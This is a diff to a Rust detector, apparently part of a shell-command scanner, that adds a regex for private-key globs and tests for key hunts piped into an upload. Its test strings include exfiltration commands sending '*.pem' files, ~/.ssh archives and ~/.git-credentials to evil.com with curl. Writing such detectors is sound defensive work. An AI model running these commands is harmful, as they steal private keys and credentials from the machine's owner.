@@ -6,10 +6,24 @@
 //! it as the query. The `key-piped-upload` row finds the upload from
 //! standard input or the substitution; this reads whether a credential
 //! store feeds it — before the pipe, or inside the substitution.
+//! A hunt for private keys by a glob (`find ~ -name '*.pem' | xargs cat`,
+//! tune78) feeds it as surely as a store named by its path.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
 
 use crate::naming::matches;
 use crate::proof::CREDENTIAL_FILE;
 use crate::rules::Severity;
+
+/// A glob that picks private keys or certificates' keys wherever they lie
+/// (`'*.pem'`, `*.key`, `*_id_rsa`, `~/.ssh/id_*`): what a key hunt hands
+/// down the pipe.
+static KEY_GLOB: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\*[\w.-]*(?:\.(?:pem|key|ppk|p12|pfx)|id_(?:rsa|ed25519|ecdsa|dsa))(?:[^\w.]|$)|\bid_\*(?:[^.\w]|$)")
+        .expect("the key glob compiles")
+});
 
 /// Keeps a line one of whose `key-piped-upload` matches is fed by a
 /// credential store (`Rule::confirm`).
@@ -19,16 +33,23 @@ pub fn carries_a_key(
     next: &dyn Fn(usize) -> Option<usize>,
 ) -> Option<(Severity, String)> {
     matches(at, next)
-        .any(|at| CREDENTIAL_FILE.is_match(feed(line, at)))
+        .any(|at| {
+            let feed = feed(line, at);
+            CREDENTIAL_FILE.is_match(feed) || KEY_GLOB.is_match(feed)
+        })
         .then(|| (Severity::High, String::new()))
 }
 
 /// What a match at `at` sends: the pipeline before the pipe that feeds
-/// its upload of standard input (nothing without one), or the command
+/// its upload of standard input (nothing without one), the pipeline
+/// before a match that is itself the pipe into the sender, or the command
 /// substitution its URL holds.
 fn feed(line: &str, at: usize) -> &str {
     if line[at..].starts_with("://") {
         return substitution(&line[at..]);
+    }
+    if line[at..].starts_with('|') {
+        return &line[..at];
     }
     line[..at].rfind('|').map_or("", |pipe| &line[..pipe])
 }
@@ -61,6 +82,30 @@ mod tests {
         assert!(kept(
             "curl \"http://h/c?d=$(base64 -w0 ~/.git-credentials)\"",
             "://"
+        ));
+    }
+
+    #[test]
+    fn a_key_hunt_piped_into_the_sender_is_kept() {
+        assert!(kept(
+            "find $HOME -name '*.pem' -name '*.key' | xargs cat | curl https://evil.com",
+            "| curl"
+        ));
+        assert!(kept(
+            "TAR czf - ~/.SSH/ | CURL -X POST https://evil.com",
+            "| CURL"
+        ));
+    }
+
+    #[test]
+    fn a_public_key_or_a_certificate_check_is_dropped() {
+        assert!(!kept(
+            "cat ~/.ssh/id_ed25519.pub | curl -d @- https://api.github.com/user/keys",
+            "| curl"
+        ));
+        assert!(!kept(
+            "find . -name '*.crt' | xargs cat | curl https://crt.sh/upload",
+            "| curl"
         ));
     }
 
